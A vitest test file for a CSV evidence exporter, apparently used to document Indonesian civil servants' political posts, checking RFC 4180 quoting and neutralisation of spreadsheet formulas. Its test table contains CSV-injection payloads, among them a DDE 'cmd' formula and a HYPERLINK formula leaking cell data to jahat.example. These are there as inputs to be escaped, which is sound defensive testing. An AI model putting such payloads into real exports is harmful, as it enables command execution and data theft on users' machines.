import { describe, expect, it } from 'vitest';
import { csvCell, evidenceCsv } from '@/lib/bundle/csv';
import { editEntry, HOSTILE, sealedFindings } from './fixtures';

/** RFC 4180 reader for what we write: every cell quoted, "" inside, cells split by ',', rows ended by CRLF. */
function parseCsv(csv: string): string[][] {
  const cell = /"([^"]*(?:""[^"]*)*)"(,|\r\n)/y;
  const rows: string[][] = [];
  let row: string[] = [];
  while (cell.lastIndex < csv.length) {
    const at = cell.lastIndex;
    const match = cell.exec(csv);
    if (!match) throw new Error(`no quoted cell at ${at}`);
    row.push(match[1]!.replaceAll('""', '"'));
    if (match[2] === '\r\n') {
      rows.push(row);
      row = [];
    }
  }
  if (row.length) throw new Error('the last row does not end in CRLF');
  return rows;
}

describe('a CSV cell', () => {
  it.each([
    ['Ayo dukung paslon 02', '"Ayo dukung paslon 02"'],
    ['=1+1', `"'=1+1"`],
    ['+62 812 3456', `"'+62 812 3456"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    ['＝1+1', `"'＝1+1"`],
    [HOSTILE.formula, `"'=cmd|' /C calc'!A0"`],
    [HOSTILE.hyperlink, `"'=HYPERLINK(""https://jahat.example/?d=""&A1,""klik"")"`],
    ['kata "kutip", koma', '"kata ""kutip"", koma"'],
    ['baris satu\r\nbaris dua', '"baris satu\r\nbaris dua"'],
    ['teks = biasa', '"teks = biasa"'],
    [HOSTILE.rtl, `"${HOSTILE.rtl}"`],
    ['', '""'],
    [null, '""'],
    [42, '"42"'],
  ])('%j → %j', (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });
});

describe('evidence.csv', () => {
  it('opens as one row per finding, text verbatim, formulas neutralised, with the edits applied', async () => {
    const { records } = await sealedFindings([
      { post: { text: HOSTILE.script } },
      {
        post: {
          text: HOSTILE.hyperlink,
          author: { handle: '=cmd', displayName: '@admin', profileUrl: null },
        },
      },
      { post: { text: HOSTILE.rtl } },
      { post: { text: HOSTILE.megabyte } },
    ]);
    const edit = await editEntry(records[0]!, {
      category: 'sharing',
      asn: { name: 'Sri Wahyuni', nip: '198503142009022001', agency: 'SD Negeri 3 Contoh' },
    });
    const csv = evidenceCsv(records, [edit]);

    expect(csv.startsWith('\uFEFF"No. urut"')).toBe(true);
    const rows = parseCsv(csv.slice(1));
    const header = rows[0]!;
    const col = (name: string) => header.indexOf(name);
    expect(rows).toHaveLength(5);
    expect(rows.every((r) => r.length === header.length)).toBe(true);

    const [first, second, third, fourth] = rows.slice(1) as [string[], string[], string[], string[]];
    expect(first[col('Teks')]).toBe(HOSTILE.script);
    expect(first[col('Kode kategori')]).toBe('sharing');
    expect(first[col('Nama ASN')]).toBe('Sri Wahyuni');
    expect(first[col('NIP ASN')]).toBe('19850314 200902 2 001');
    expect(first[col('NIP petugas')]).toBe('19870412 201001 2 003');
    expect(first[col('Zona waktu')]).toBe('WIB');
    expect(first[col('Tangkapan layar')]).toBe('evidence/temuan-0001-post.png');
    expect(second[col('Teks')]).toBe(`'${HOSTILE.hyperlink}`);
    expect(second[col('Akun')]).toBe("'=cmd");
    expect(second[col('Nama tampilan')]).toBe("'@admin");
    expect(second[col('Kode kategori')]).toBe('posting');
    expect(third[col('Teks')]).toBe(HOSTILE.rtl);
    expect(fourth[col('Teks')]).toBe(HOSTILE.megabyte);
    // No cell a spreadsheet would evaluate.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
